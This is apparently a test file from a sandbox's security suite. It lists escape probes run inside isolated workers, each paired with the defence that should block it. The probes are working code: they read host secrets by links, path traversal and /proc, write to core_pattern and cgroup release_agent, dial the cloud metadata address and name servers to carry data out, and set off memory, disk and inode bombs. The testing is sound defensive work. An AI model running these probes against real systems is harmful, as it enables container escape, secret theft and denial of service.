/**
 * Attempts in the words of a worker: the body of an async function of `host` (`Facts`), run as a worker's method in
 * every driver, and for the control in a plain Node without any vault. It gets through when it answers OPEN or what
 * holds the host's secret. `expr` is at hand in all of them: `get(module)` and `fs`, which QuickJS does not have.
 */
import { execFile } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { DriverName } from '../support/mesh.ts';
import type { Facts } from './host.ts';
import { PATIENCE } from './patience.ts';
import { type Attempt, judged, type Outcome } from './table.ts';
import type { World } from './world.ts';

type By = Partial<Record<DriverName, string>>;

const NO_NODE = 'the language alone is inside';
const NOT_IN_ROOT = 'its own root, and mounts';
const PERMISSION = 'permission model and own root';
const FILES: By = { lxc: NOT_IN_ROOT, process: PERMISSION, quickjs: NO_NODE };
const NETWORK: By = {
  lxc: 'filter: no socket, no connect',
  process: 'filter: no socket, no connect',
  quickjs: NO_NODE,
};
const MEMORY: By = { lxc: 'memory limit', process: 'memory limit', quickjs: "the VM's memory limit" };

/** Makes `get` and `fs` where there is Node; elsewhere using them throws. */
const TOOLS = `
  const get = (name) => process.getBuiltinModule(name);
  const fs = new Proxy({}, { get: (_, name) => get('node:fs')[name] });
  const fill = (make) => { const all = []; for (let i = 0; i < 300; i++) all.push(make(i)); return 'OPEN ' + all.length; };
  const dial = (...where) => new Promise((resolve, reject) => {
    const socket = get('node:net').connect(...where);
    let text = '';
    socket.on('data', (data) => { text += data; }).on('error', reject).on('close', () => resolve(text));
    setTimeout(() => reject(new Error('no answer')), 4000);
  });
  const writable = (path) => { fs.closeSync(fs.openSync(path, 'r+')); return 'OPEN ' + path; };`;

/** name, what blocks it, body. */
const PROBES: [string, By, string][] = [
  [
    'a file of the host, by import("node:fs")',
    FILES,
    `return (await import('node:fs')).readFileSync(host.secret_file, 'utf8')`,
  ],
  [
    'the host’s environment',
    { lxc: 'an empty environment', process: 'an empty environment', quickjs: NO_NODE },
    'return Object.values(process.env).includes(host.proof) ? host.proof : Object.keys(process.env).join()',
  ],
  [
    'a file of the host, by a symbolic link of its own',
    FILES,
    `const link = host.folder + '/link'; fs.symlinkSync(host.secret_file, link); return fs.readFileSync(link, 'utf8')`,
  ],
  [
    'a file of the host, by a hard link of its own',
    FILES,
    `const link = host.folder + '/hard'; fs.linkSync(host.secret_file, link); return fs.readFileSync(link, 'utf8')`,
  ],
  [
    'a file of the host, by .. out of its own folder',
    FILES,
    `return fs.readFileSync(host.folder + '/../../../../../../..' + host.secret_file, 'utf8')`,
  ],
  [
    '/proc/<pid>/root of process 1, the agent, the parent',
    { lxc: 'pid namespace; own root', process: 'no /proc; permission model', quickjs: NO_NODE },
    `for (const pid of [1, host.pid, process.ppid]) {
       try { return fs.readFileSync('/proc/' + pid + '/root' + host.secret_file, 'utf8'); } catch (error) { var last = error; }
     } throw last`,
  ],
  [
    '/proc/<pid>/environ of the agent',
    { lxc: 'pid namespace', process: 'no /proc; permission model', quickjs: NO_NODE },
    `return fs.readFileSync('/proc/' + host.pid + '/environ', 'latin1').includes(host.proof) ? host.proof : 'not in it'`,
  ],
  [
    '/proc/<pid>/mem of the agent',
    { lxc: 'pid namespace', process: 'no /proc; permission model', quickjs: NO_NODE },
    `const maps = fs.readFileSync('/proc/' + host.pid + '/maps', 'utf8');
     const start = Number('0x' + /^([0-9a-f]+)-\\S+ rw/m.exec(maps)[1]);
     const fd = fs.openSync('/proc/' + host.pid + '/mem', 'r');
     return fs.readSync(fd, Buffer.alloc(64), 0, 64, start) === 64 ? 'OPEN' : 'nothing read'`,
  ],
  [
    'signals to the agent',
    { lxc: 'pid namespace', process: 'pid namespace', quickjs: NO_NODE },
    `return process.kill(host.pid, 0) ? 'OPEN' : 'no'`,
  ],
  [
    'core_pattern, sysrq',
    FILES,
    `for (const path of ['/proc/sysrq-trigger', '/proc/sys/kernel/sysrq', '/proc/sys/kernel/core_pattern']) {
       try { return writable(path); } catch (error) { var last = error; }
     } throw last`,
  ],
  [
    // Cgroup v2 has no such file; what is given to the cgroups below stands there.
    'release_agent of a cgroup, or its controllers',
    FILES,
    `const files = fs.readdirSync('/sys/fs/cgroup').map((name) => name + '/release_agent');
     for (const file of [...files, 'cgroup.subtree_control']) {
       try { return writable('/sys/fs/cgroup/' + file); } catch (error) { var last = error; }
     } throw last`,
  ],
  ['raising a limit of a cgroup', FILES, `fs.writeFileSync(host.limit_file, '2000'); return 'OPEN'`],
  [
    'a process of its own: child_process',
    { lxc: 'filter: clone makes threads only', process: 'permission model; filter', quickjs: NO_NODE },
    `const { error, status } = get('node:child_process').spawnSync(process.execPath, ['-v']);
     if (error) throw error; return status === 0 ? 'OPEN' : 'status ' + status`,
  ],
  [
    'a process of its own: process.binding("spawn_sync")',
    { lxc: 'filter: clone makes threads only', process: 'permission model; filter', quickjs: NO_NODE },
    `const file = process.execPath;
     const { error, status } = process.binding('spawn_sync').spawn({ file, args: [file, '-v'], stdio: [0, 1, 2].map(() => ({ type: 'ignore' })) });
     return error ? 'errno ' + error : status === 0 ? 'OPEN' : 'status ' + status`,
  ],
  [
    'native code of its own: process.dlopen',
    { lxc: '/tmp without exec', process: 'permission model; /tmp without exec', quickjs: NO_NODE },
    `const copy = host.folder + '/native.node';
     const source = ['/lib/x86_64-linux-gnu', '/lib/aarch64-linux-gnu', '/usr/lib64'].map((d) => d + '/libm.so.6').find((f) => fs.existsSync(f));
     fs.writeFileSync(copy, fs.readFileSync(source));
     try { process.dlopen({ exports: {} }, copy); return 'OPEN'; }
     catch (error) { if (/self-register/.test(error.message)) return 'OPEN: loaded'; throw error; }`,
  ],
  ['a service on the host’s loopback', NETWORK, `return dial(host.loopback_port, '127.0.0.1')`],
  [
    'TCP to a web host',
    NETWORK,
    `const answer = get('node:http').get({ host: host.web_host });
     return new Promise((resolve, reject) => answer.on('error', reject).on('response', async (r) => {
       let text = ''; for await (const part of r) text += part; resolve(text); }))`,
  ],
  [
    'the cloud’s metadata address',
    NETWORK,
    `const answer = get('node:http').get({ host: host.metadata });
     return new Promise((resolve, reject) => answer.on('error', reject).on('response', async (r) => {
       let text = ''; for await (const part of r) text += part; resolve(text); }))`,
  ],
  [
    'a name server, by DNS',
    NETWORK,
    `const resolver = new (get('node:dns').promises.Resolver)({ timeout: 1500, tries: 1 });
     resolver.setServers([host.name_server]);
     return (await resolver.resolveTxt('data-to-carry-out.test')).join()`,
  ],
  [
    'a name server, by a datagram',
    NETWORK,
    `const socket = get('node:dgram').createSocket('udp4');
     const question = Buffer.concat([Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), Buffer.from([1, 97, 4]), Buffer.from('test'), Buffer.from([0, 0, 16, 0, 1])]);
     return new Promise((resolve, reject) => {
       socket.on('error', reject).on('message', (text) => { socket.close(); resolve(text.toString('latin1')); });
       setTimeout(() => reject(new Error('no answer')), 3000);
       socket.send(question, 53, host.name_server, (error) => error && reject(error)); })`,
  ],
  ['a Unix socket of the host', NETWORK, 'return dial({ path: host.unix_socket })'],
  ['an abstract socket of the host', NETWORK, 'return dial({ path: host.abstract_socket })'],
  [
    'a listener of its own',
    NETWORK,
    `return new Promise((resolve, reject) => {
       const server = get('node:net').createServer();
       server.on('error', reject).listen(0, '0.0.0.0', () => { server.close(); resolve('OPEN'); }); })`,
  ],
  [
    'Node’s inspector',
    { lxc: 'filter: no socket', process: 'permission model; filter', quickjs: NO_NODE },
    `get('node:inspector').open(0, '127.0.0.1'); const url = get('node:inspector').url();
     if (url) { get('node:inspector').close(); return 'OPEN'; } return 'it does not listen'`,
  ],
  [
    'filling the temporary folder',
    { lxc: 'tmpfs of 16 MiB', process: 'tmpfs of 16 MiB', quickjs: NO_NODE },
    `const part = Buffer.alloc(1 << 20, 1); const fd = fs.openSync(host.folder + '/big', 'w');
     for (let i = 0; i < 64; i++) if (fs.writeSync(fd, part) < part.length) throw new Error('short write'); return 'OPEN'`,
  ],
  [
    'taking all inodes of the temporary folder',
    { lxc: 'tmpfs of 1024 inodes', process: 'tmpfs of 1024 inodes', quickjs: NO_NODE },
    `fs.mkdirSync(host.folder + '/many'); for (let i = 0; i < 3000; i++) fs.writeFileSync(host.folder + '/many/' + i, ''); return 'OPEN'`,
  ],
  ['a heap bomb', MEMORY, 'return fill((i) => new Array(131072).fill(0).map((_, n) => i + n + 0.5))'],
  ['an ArrayBuffer bomb', MEMORY, 'return fill((i) => new Uint8Array(1 << 20).fill(i + 1))'],
  ['a string bomb', MEMORY, `const text = 'x'.repeat(1 << 20); return fill((i) => JSON.stringify(text + i))`],
];

/** How a worker's module looks that makes one attempt. */
export const workerOf = (body: string) => `${TOOLS}\nexport const attempt = async (host) => { ${body}\n};`;

/** The same in a plain Node: no vault, no limits but the machine's. */
export function plainNode(facts: Facts, body: string, timeout_ms = 20_000 * PATIENCE): Promise<Outcome> {
  const file = join(facts.folder, `control-${Math.random().toString(36).slice(2)}.mjs`);
  writeFileSync(
    file,
    `${workerOf(body)}\nattempt(${JSON.stringify(facts)}).then((v) => console.log(String(v)), (e) => console.log('threw', e.message)).then(() => process.exit());`,
  );
  return judged(
    facts.proof,
    () =>
      new Promise((resolve, reject) => {
        execFile(
          process.execPath,
          ['--no-warnings', file],
          { timeout: timeout_ms, maxBuffer: 64 << 20 },
          (error, out) => (error && out === '' ? reject(error) : resolve(out.trim())),
        );
      }),
  );
}

/** The attempts of this file. */
export function insideAttempts({ facts, ask }: World): Attempt[] {
  return PROBES.map(([name, by, body]) => ({
    name,
    by,
    run: (driver) => judged(facts.proof, () => ask(driver, workerOf(body), { ...facts, folder: '/tmp' })),
    control: { what: 'plain Node', run: () => plainNode(facts, body) },
  }));
}
